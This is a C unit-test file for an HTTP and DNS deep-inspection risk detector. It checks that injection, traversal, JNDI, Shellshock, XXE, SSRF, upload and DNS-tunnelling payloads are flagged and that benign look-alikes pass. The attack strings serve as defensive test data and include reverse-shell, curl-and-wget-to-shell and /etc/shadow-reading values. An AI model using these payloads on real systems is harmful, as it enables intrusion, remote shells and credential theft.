/* SPDX-License-Identifier: BSD-2-Clause */
/* Risks of HTTP and DNS where nDPI does not look: each is found in its forms, in requests and responses, and honest ones
 * have none. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "dpi/risk.h"

#define EXPLOIT DPI_RISK_BIT(NDPI_POSSIBLE_EXPLOIT)
#define URL DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_URL)
#define AGENT DPI_RISK_BIT(NDPI_HTTP_SUSPICIOUS_USER_AGENT)
#define SQL DPI_RISK_BIT(NDPI_URL_POSSIBLE_SQL_INJECTION)
#define XSS DPI_RISK_BIT(NDPI_URL_POSSIBLE_XSS)
#define PROGRAM DPI_RISK_BIT(NDPI_BINARY_APPLICATION_TRANSFER)
#define RCE DPI_RISK_BIT(NDPI_URL_POSSIBLE_RCE_INJECTION)
#define FORM "POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
#define POST "POST /a HTTP/1.1\r\nHost: a\r\nContent-Type: application/xml\r\n\r\n"
#define OK "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n"

static struct magic_set *magic;

static int open_magic(void **state)
{
	struct dpi_err err;

	(void)state;
	return dpi_kinds_open(&magic, &err);
}

static int close_magic(void **state)
{
	(void)state;
	dpi_kinds_close(magic);
	return 0;
}

/* The risks of a text, from memory that ends where it ends. */
static uint64_t risks_of(const char *text, size_t len)
{
	uint8_t *p = malloc(len);

	assert_non_null(p);
	memcpy(p, text, len);
	uint64_t r = dpi_risks_http(magic, p, len);
	free(p);
	return r;
}

static void finds_attacks(void **state)
{
	static const struct { const char *text; uint64_t risk; } cases[] = {
		{ FORM "id=1%27+OR+%271%27%3D%271", SQL },
		{ FORM "page=2&id=1+UNION+SELECT+user,+password+FROM+users--", SQL },
		{ FORM "=&a&b=&id=1%27+OR+%271%27%3D%271", SQL },
		{ FORM "name=%3Cscript%3Ealert(1)%3C/script%3E&page=2", XSS },
		{ FORM "name=%zz%3Cscript%3Ealert(1)%3C/script%3E", XSS },
		{ "POST /a HTTP/1.1\r\ncontent-type: Application/X-WWW-Form-Urlencoded\r\n\r\nid=1%27+OR+%271%27%3D%271", SQL },
		{ "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a?f=..%2f..%2fetc HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a?f=%252e%252e%252fetc HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/%%32%65%%32%65/b HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/..%5c..%5cb HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /a/..%c0%afb HTTP/1.1\r\nHost: a\r\n\r\n", URL },
		{ "GET /%2e%2e/", URL },
		{ "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${JNDI:dns://e.example/a", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${lower:j}ndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: }${a}${${env:X:-j}ndi${env:X:-:}rmi://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nX-Api: ${${lower:${upper:j}}ndi:ldap://e.example/a}\r\n\r\n", EXPLOIT },
		{ "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D HTTP/1.1\r\n\r\n", EXPLOIT },
		{ POST "{\"name\":\"${jndi:ldap://e.example/a}\"}", EXPLOIT },
		{ FORM "q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", EXPLOIT },
		{ "GET / HTTP/1.1\r\nHost: a\r\nuser-agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n", AGENT },
		{ "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v1.1.0", AGENT },
		{ "GET / HTTP/1.1\r\nReferer: () { :;}; /bin/id\r\n\r\n", EXPLOIT },
		{ "GET / HTTP/1.1\r\nCookie: a=() { :;}; /bin/id\r\n\r\n", EXPLOIT },
		{ POST "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", EXPLOIT },
		{ POST "<!DOCTYPE r [<!ENTITY\n% x PUBLIC \"a\" \"http://e.example/\">]>", EXPLOIT },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint64_t r = risks_of(cases[i].text, strlen(cases[i].text));
		if (r != cases[i].risk)
			print_error("%s: risks %#llx\n", cases[i].text, (unsigned long long)r);
		assert_int_equal(r, cases[i].risk);
	}
}

/* The bytes of a value, each as its code. */
static size_t encode(char *out, const char *value)
{
	size_t n = 0;

	for (const char *p = value; *p; p++)
		n += (size_t)sprintf(out + n, "%%%02x", (unsigned char)*p);
	return n;
}

/* The risks of a parameter in a URL, which must be those of one in a form; there nDPI is asked as well. */
static uint64_t parameter(const char *name, const char *value)
{
	char text[8192];
	size_t n = (size_t)sprintf(text, "GET /a?page=2&%s=", name);

	n += encode(text + n, value);
	n += (size_t)sprintf(text + n, " HTTP/1.1\r\nHost: a\r\n\r\n");
	uint64_t url = risks_of(text, n);
	n = (size_t)sprintf(text, FORM "page=2&%s=", name);
	n += encode(text + n, value);
	assert_int_equal(url, risks_of(text, n) & (RCE | URL));
	return url;
}

static void finds_what_values_would_do(void **state)
{
	static const struct { const char *value; uint64_t risk; } cases[] = {
		{ ";cat /etc/passwd", RCE }, { "|id", RCE }, { "127.0.0.1; uname -a", RCE }, { "a.jpg;rm -rf /tmp/x", RCE },
		{ "& nc -e /bin/sh 192.0.2.9 4444", RCE }, { "|| ping -c 10 192.0.2.9 ||", RCE }, { "&& sleep 5", RCE },
		{ "\n/bin/cat /etc/shadow", RCE }, { "a|/usr/bin/id", RCE }, { "a;/bin/sh", RCE },
		{ "a;cat${IFS}/etc/passwd", RCE },
		{ "a;cat</etc/passwd", RCE }, { "$(curl http://e.example/x|sh)", RCE },
		{ "`wget http://e.example/x -O- | sh`", RCE },
		{ "a`id`", RCE }, { "a$(whoami)", RCE }, { "a|whoami", RCE }, { "1|ls", RCE }, { "a & type c:\\boot.ini", RCE },
		{ "; python3.11 -c 'x'", RCE }, { "; cmd.exe /c dir", RCE }, { "a;curl e.example", RCE }, { "%0aid", RCE },
		{ "%250aid", RCE },
		{ "8.8.8.8 & dir", RCE }, { "a; bash >& /tmp/x", RCE }, { "';id;'", RCE }, { "a;base64 -d x", RCE },
		{ "{{7*7}}", RCE }, { "a{{ 7*'7' }}b", RCE }, { "${7*7}", RCE }, { "#{7*7}", RCE }, { "<%= 7*7 %>", RCE },
		{ "{{''.__class__.__mro__}}", RCE }, { "*{T(java.lang.Runtime).getRuntime().exec('id')}", RCE },
		{ "<?php system($_GET['c']); ?>", RCE }, { "<?=`$_GET[1]`?>", RCE }, { "system('id')", RCE },
		{ "a;eval($_POST[1]);", RCE },
		{ "eval(base64_decode('aWQ='))", RCE }, { "__import__('os').system('id')", RCE },
		{ "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", RCE }, { "O:8:\"Example1\":1:{s:1:\"a\";i:1;}", RCE },
		{ "http://127.0.0.1:6379/", URL }, { "http://localhost:22/", URL }, { "https://a.localhost./", URL },
		{ "//127.1/", URL },
		{ "http://2130706433/", URL }, { "http://0x7f000001/", URL }, { "http://0177.0.0.1/", URL },
		{ "http://[::1]/a", URL },
		{ "http://[::ffff:127.0.0.1]/", URL }, { "http://169.254.169.254/latest/", URL },
		{ "http://a:b@10.0.0.1/", URL },
		{ "http://metadata.google.internal/", URL }, { "http://172.31.0.1", URL }, { "http://0/", URL },
		{ "HTTP://192.168.1.1", URL },
		{ "file:///etc/hosts", URL }, { "gopher://127.0.0.1:6379/_INFO", URL }, { "dict://a:11211/stat", URL },
		{ "php://filter/convert.base64-encode/resource=a", URL }, { "expect://id", URL }, { "/etc/passwd", URL },
		{ "/proc/self/environ", URL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint64_t r = parameter("v", cases[i].value);
		if (r != cases[i].risk)
			print_error("%s: risks %#llx\n", cases[i].value, (unsigned long long)r);
		assert_int_equal(r, cases[i].risk);
	}
	assert_int_equal(parameter("redirect_uri", "http://2130706433/"), URL);
	assert_int_equal(parameter("next", "http://169.254.169.254/"), URL);
	assert_int_equal(risks_of("GET /a?;id HTTP/1.1\r\n\r\n", 24), RCE);
	assert_int_equal(risks_of("GET /a?x=|id HTTP/1.1\r\n\r\n", 26), RCE);
}

/* Hard ones. */
static void lets_honest_values_be(void **state)
{
	static const char *const clean[] = {
		"Tom & Jerry", "R&D", "AT&T", "rock & roll; cats & dogs", "dogs; cat is out", "dog;sleep well",
		"eat;sleep 8 hours;cat food",
		"open chat; type /help", "type /help & press enter", "I have a dog; cat /me -x", "5 & cat", "4 & 5",
		"1;2;3", "12:30; 14:00",
		"bash;python;perl", "bash|curl|wget", "id;name;type", "name|id|type", "id", "cat", "a&&b", "a||b",
		"^1.0||^2.0", "(cat|dog|ls)",
		"curl | sh", "curl -s a.example | bash -s", "ls | wc -l", "ps | grep -v x", "cat /proc/cpuinfo",
		"rm -rf /", "cd /tmp && ls -la",
		"I typed\nls -la\nand it hung", "```bash\npython -m pip install x\n```", "use `ls -la`",
		"`ls` lists files", "`cat` or `type`",
		"$(document).ready(f)", "$(id).hide()", "$('#id').val()", "$5;$6", "&nbsp;cat", "&lt;id&gt;",
		"&#39;id&#39;", "Tom &amp; Jerry",
		"text/html; charset=utf-8", "Server=db;User Id=anna;Type=1", "FREQ=WEEKLY;BYDAY=MO;ID=5", "=IF(A1>5;id;type)",
		"a@b.example; c@d.example",
		"Hello {{name}}", "{{ user.name | upper }}", "{{#each items}}{{this}}{{/each}}", "${name}", "${total * 2}",
		"#{user.id}",
		"<%= name %>", "$x^{2*3}$", "2*3", "eval() is evil", "eval(", "system()", "phpinfo()", "f(x)=2*x",
		"<?php echo 'hello'; ?>",
		"<?php",
		"java.lang.NullPointerException: null at java.lang.Runtime.exec(Runtime.java:620)", "O:8", "O: 8 people",
		"O:9:\"a\":1:{",
		"https://www.example.org/?a=1&type=2&id", "https://8.8.8.8/", "https://127.0.0.1.example.org/",
		"https://localhost.example.com/",
		"https://[2001:db8::1]/", "http://172.32.0.1/", "http://localhost:3000 does not answer",
		"//cdn.example.net/a.js",
		"http://", "http://[",
		"127.0.0.1", "localhost", "what is /etc/passwd", "/etc/passwd format", "/etc/motd", "file: report.txt",
		"urn:ietf:wg:oauth:2.0:oob",
		"data:image/png;base64,iVBORw0KGgo=", "SGVsbG8sIFdvcmxkIQ==", "{\"id\":{\"$gt\":5}}",
		"(&(uid=a)(|(cn=a)(cn=b)))", ";-)",
		"|", "`", "``",
		"$(", "${", "{{", "{{}}", "<%", "&&&&", ";;", "\n", "(", "$()", "<? ?>",
	};
	static const struct { const char *name, *value; } named[] = {
		{ "redirect_uri", "http://127.0.0.1:51004/" }, { "redirect_uri", "http://localhost:8080/callback" },
		{ "return_to", "http://192.168.1.10/admin" }, { "next", "http://[::1]:8000/" }, { "dl", "file:///home/a.html" },
		{ "q", "/etc/passwd" }, { "search", "php://filter/" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		uint64_t r = parameter("v", clean[i]);
		if (r)
			print_error("%s: risks %#llx\n", clean[i], (unsigned long long)r);
		assert_int_equal(r, 0);
	}
	for (size_t i = 0; i < sizeof(named) / sizeof(named[0]); i++)
		assert_int_equal(parameter(named[i].name, named[i].value), 0);
}

static uint32_t draw(uint32_t below)
{
	static uint32_t state = 12345;

	state = state * 1664525u + 1013904223u;
	return (uint32_t)((uint64_t)state * below >> 32);
}

/* Words of prose, of lists and of command lines, put together as people and programs do. */
static void make_honest(char *out, unsigned form)
{
	static const char *const words[] = {
		"red", "pump", "Anna", "list", "order", "union", "table", "three", "a", "the", "note", "item", "id", "type",
		"cat", "dir", "name", "size", "python", "bash", "php", "perl", "curl", "wget", "echo", "sleep", "ls", "ps",
		"env", "net", "node", "ruby", "uname", "cmd", "sh", "ping", "find", "kill", "set", "rm", "host",
	};
	static const char *const first[] = { "Tom", "R", "Q", "rock", "Hi", "black", "salt", "fish" };
	static const char *const lists[] = { ",", ";", "|", " | ", "; ", "&", " & ", " && ", "||", "/", "\n", "\r\n", " " };
	static const char *const joins[] = { "; ", " & ", " | ", ";", "&", ". ", "&amp;", ";\n" };
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const char *between = form == 0 ? lists[draw(13)] : joins[draw(8)];
	unsigned n = form == 3 || form == 4 ? 5 + draw(300) : 2 + draw(4), at = 0;

	for (unsigned i = 0; i < n; i++) {
		if (form == 3) /* a token */
			out[at++] = digits[draw(64)];
		else if (form == 4) /* noise */
			out[at++] = (char)(32 + draw(95));
		else if (i == 0 && form < 2) /* "a;id" asks for it, "3;id" would be an injection */
			at += (unsigned)sprintf(out, "%s", form ? first[draw(8)] : words[4 + draw(3)]);
		else if (form == 2 && i < 2)
			at += (unsigned)sprintf(out + at, "%s ", words[draw(41)]);
		else
			at += (unsigned)sprintf(out + at, "%s%s", form == 0 || i == 1 || (form == 2 && i == 2) ? between : " ",
						words[draw(41)]);
	}
	out[at] = 0;
}

static void lets_many_honest_values_be(void **state)
{
	enum { EACH = 4800, FORMS = 5 };
	char value[1024];

	(void)state;
	for (unsigned i = 0; i < EACH * FORMS; i++) {
		make_honest(value, i % FORMS);
		uint64_t r = parameter("v", value);
		if (r)
			print_error("%s: risks %#llx\n", value, (unsigned long long)r);
		assert_int_equal(r, 0);
	}
	print_message("# %d honest values, in URLs and forms: none refused\n", EACH * FORMS);
}

#define PART \
	"POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n" \
	"Content-Disposition: form-data; filename="

static void finds_sources_in_uploads(void **state)
{
	static const struct { const char *text; int found; } cases[] = {
		{ PART "\"x.php\"\r\n\r\n<?php a(); ?>\r\n--b--\r\n", 1 },
		{ PART "\"a.png\"\r\n\r\n\xef\xbb\xbf\n<%@ Page %>\r\n--b--\r\n", 1 },
		{ PART "\"a.txt\"\r\n\r\n#! /bin/sh\nid\r\n--b--\r\n", 1 },
		{ PART "\"a.PHP\"\r\n\r\nGIF89a<?php a(); ?>\r\n--b--\r\n", 1 },
		{ PART "\"a.gif\"\r\n\r\nGIF89a<?php a(); ?>\r\n--b--\r\n", 0 },
		{ PART "\"a.php\"\r\n\r\nhello\r\n--b--\r\n", 0 },
		{ PART "\"a.svg\"\r\n\r\n<?xml version=\"1.0\"?><svg/>\r\n--b--\r\n", 0 },
		{ PART "\"a.rs\"\r\n\r\n#![allow(x)]\r\n--b--\r\n", 0 },
		{ PART "\"a.md\"\r\n\r\nIt begins with <?php, as all do.\r\n--b--\r\n", 0 },
		{ PART "\"a.php", 0 },
		{ "PUT /x HTTP/1.1\r\nHost: a\r\n\r\n<?php a(); ?>", 1 },
		{ "PUT /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nd\r\n<?php a(); ?>\r\n0\r\n\r\n", 1 },
		{ OK "<?php a(); ?>", 0 },
		{ OK "#!/bin/sh\n", 0 },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		uint64_t r = risks_of(cases[i].text, strlen(cases[i].text));
		if (r != (cases[i].found ? PROGRAM : 0))
			print_error("%s: risks %#llx\n", cases[i].text, (unsigned long long)r);
		assert_int_equal(r, cases[i].found ? PROGRAM : 0);
	}
}

/* A question for a name with dots, cut off behind len bytes; tcp: behind its length. */
static uint64_t question(const char *name, size_t cut, int tcp)
{
	uint8_t *p = calloc(1, 512);
	size_t n = 14;

	assert_non_null(p);
	p[7] = 1; /* one question; two bytes of length stand before the header */
	for (const char *label = name; *label;) {
		size_t len = strcspn(label, ".");
		p[n++] = (uint8_t)len;
		memcpy(p + n, label, len);
		n += len;
		label += len + (label[len] == '.');
	}
	n += 5;
	p[0] = (uint8_t)((n - 2) >> 8);
	p[1] = (uint8_t)(n - 2);
	size_t len = (tcp ? n : n - 2) - cut;
	uint8_t *exact = malloc(len);
	assert_non_null(exact);
	memcpy(exact, tcp ? p : p + 2, len);
	uint64_t r = dpi_risks_dns(exact, len);
	free(exact);
	free(p);
	return r;
}

#define LABEL60 "ojxw65b2pa5daorqhjzg633uhixxe33pori2l3cnfxc6ytbonuauizlnn5xd"

static void finds_data_in_names(void **state)
{
	static const char *const honest[] = {
		"www.example.org", LABEL60 ".t.example",
		LABEL60 ".abcdefghij.abcdefghij.abcdefghij.abcdefghij.abcdefghij.abcdefghij.example",
		"a-long-name-of-a-service-that-somebody-made-up-for-a-cluster.another-long-name-of-a-space-that-goes.svc.local",
		"0.1.2.3.4.5.6.7.8.9.a.b.c.d.e.f.0.1.2.3.4.5.6.7.8.9.a.b.c.d.e.f.ip6.arpa", "",
		"_0123456789abcdef0123456789abcdef.www.example.org._0123456789abcdef0123456789abcdef.acm-validations.aws",
	};

	(void)state;
	for (int tcp = 0; tcp < 2; tcp++) {
		assert_int_equal(question(LABEL60 "." LABEL60 ".t.example", 0, tcp), DPI_RISK_BIT(NDPI_DNS_SUSPICIOUS_TRAFFIC));
		for (size_t i = 0; i < sizeof(honest) / sizeof(honest[0]); i++)
			assert_int_equal(question(honest[i], 0, tcp), 0);
	}
	for (size_t cut = 0; cut < 130; cut++)
		(void)question(LABEL60 "." LABEL60 ".t.example", cut, 0);
}

static void finds_programs(void **state)
{
	char text[4096];
	FILE *f = fopen("/proc/self/exe", "rb");
	char elf[512];

	(void)state;
	assert_non_null(f);
	assert_int_equal(fread(elf, 1, sizeof(elf), f), sizeof(elf));
	fclose(f);
	static const struct { const char *before; int found; } cases[] = {
		{ OK, 1 },
		{ "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n200\r\n", 1 },
		{ "POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
		  "Content-Disposition: form-data\r\n\r\n", 1 },
		{ "PUT /a HTTP/1.1\r\nHost: a\r\n\r\n", 1 },
		{ "HTTP/1.1 200 OK\r\n\r\nsee: ", 0 },
		{ "HTTP/1.1 200 OK\r\nA: ", 0 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t n = strlen(cases[i].before);
		memcpy(text, cases[i].before, n);
		memcpy(text + n, elf, sizeof(elf));
		assert_int_equal(risks_of(text, n + sizeof(elf)), cases[i].found ? PROGRAM : 0);
	}
}

static void lets_honest_ones_be(void **state)
{
	static const char *const clean[] = {
		"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a%20b/c..d/e?x=1%2E%2E5 HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a?q=wait%2E%2E%2E HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a?q=100%25 HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /price?c=%24%7Btotal%7D HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nX-Template: ${env:HOME}${a}\r\n\r\n",
		"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nReferer: https://nikto.example/\r\n\r\n",
		"GET / HTTP/1.1\r\nUser-Agent:\r\n\r\n", "GET / HTTP/1.1\r\nUser-Agent:",
		"GET / HTTP/1.1\r\nX-Code: f() { return 1 }\r\n\r\n",
		FORM "name=O%27Brien+%26+sons&note=it%27s+fine%2C+thanks",
		FORM "text=select+one+or+more+of+these&sum=1%2B1%3D2&when=5+o%27clock",
		FORM "text=wait%2E%2E%2E+and+see&path=..%2F..%2Fa",
		FORM, FORM "a", FORM "=", FORM "&&&", FORM "a=%", FORM "a=%4", FORM "a=%00",
		POST "<order><name>Anna</name></order>",
		POST "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/x.dtd\"><p/>",
		POST "<!DOCTYPE r [<!ENTITY x \"text\">]><r>&x;</r>",
		POST "<!ENTITY", POST "<!ENTITY ", POST "<!ENTITY % SYSTEM",
		OK "MZ is the name of a band", OK "\177ELFIN dances in the night", "HTTP/1.1 200 OK", "G", "GET ",
		"${", "}", "${}", "${${}",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		uint64_t r = risks_of(clean[i], strlen(clean[i]));
		if (r)
			print_error("%s: risks %#llx\n", clean[i], (unsigned long long)r);
		assert_int_equal(r, 0);
	}
}

/* What makes it work hardest stays far below the time after which an inspector counts as hung. */
static void is_bounded(void **state)
{
	enum { LEN = 61440 };
	static const char *const units[] = {
		"${", "${}", "${a:-", "}", "<!ENTITY a", "<!ENTITYaaaaaaaaaaaaaaaaaa ", "a='&", "() {", "%25", "..%2f",
		"\r\n\r\n", "\r\n\r\nMZ", "a=1' or '1", "chunke",
	};
	static const char *const heads[] = { FORM, POST, "GET /", "GET /?a=", FORM "a=",
					     "PUT / HTTP/1.1\r\nContent-Type: multipart/x\r\n\r\n" };
	char *text = malloc(LEN);

	(void)state;
	assert_non_null(text);
	for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++)
		for (size_t h = 0; h < sizeof(heads) / sizeof(heads[0]); h++) {
			struct timespec a, b;
			size_t n = strlen(heads[h]), unit = strlen(units[i]);
			memcpy(text, heads[h], n);
			for (; n < LEN; n++)
				text[n] = units[i][(n - strlen(heads[h])) % unit];
			clock_gettime(CLOCK_THREAD_CPUTIME_ID, &a);
			(void)risks_of(text, LEN);
			clock_gettime(CLOCK_THREAD_CPUTIME_ID, &b);
			double ms = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) / 1e6;
			if (ms >= 500)
				print_error("%s in %.12s...: %.1f ms\n", units[i], heads[h], ms);
			assert_true(ms < 500); /* a sanitizer's build too */
		}
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_attacks),
		cmocka_unit_test(finds_programs),
		cmocka_unit_test(finds_what_values_would_do),
		cmocka_unit_test(lets_honest_values_be),
		cmocka_unit_test(lets_many_honest_values_be),
		cmocka_unit_test(finds_sources_in_uploads),
		cmocka_unit_test(finds_data_in_names),
		cmocka_unit_test(lets_honest_ones_be),
		cmocka_unit_test(is_bounded),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, open_magic, close_magic);
}
